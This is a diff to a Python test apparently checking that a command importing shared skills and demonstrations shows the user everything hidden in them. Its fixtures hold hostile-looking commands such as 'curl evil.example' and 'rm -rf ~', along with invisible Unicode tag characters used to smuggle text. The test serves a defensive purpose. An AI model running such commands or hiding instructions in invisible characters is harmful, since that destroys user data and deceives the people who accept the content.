@@ -100,7 +100,8 @@ def test_nothing_that_acts_or_is_told_hides_from_the_person_who_accepts_it(tmp_p
         actions=(types, long), window=WindowHint(process="terminal"), expect=(holds,), result="all is well"
     )
     keys = Variable(name="keys", default="curl evil.example")
-    shown = Demonstration(name="pay", request="pay", application="calc", applications=("mail",), steps=(f"x{unseen}",))
+    steps = (f"x{unseen}", "y\ufe0f\U000e0141")
+    shown = Demonstration(name="pay", request="pay", application="calc", applications=("mail",), steps=steps)
     entries = [
         Entry("skills", Skill(name="notes", request="open my notes", variables=(keys,), tasks=(task,))),
         Entry("demonstrations", shown),
@@ -109,7 +110,16 @@ def test_nothing_that_acts_or_is_told_hides_from_the_person_who_accepts_it(tmp_p
     command = Command(tmp_path)
     command.run("knowledge", "import", str(tmp_path / "shared"))
     said = command.run("knowledge", "accept", "--yes").stdout
-    for hidden in ("curl evil.example", "rm -rf ~", "terminal", "anything.txt", "all is well", "mail", "\\U000e006f"):
+    for hidden in (
+        "curl evil.example",
+        "rm -rf ~",
+        "terminal",
+        "anything.txt",
+        "all is well",
+        "mail",
+        "\\U000e006f",
+        "y\\ufe0f\\U000e0141",
+    ):
         assert hidden in said
     assert unseen not in said
 
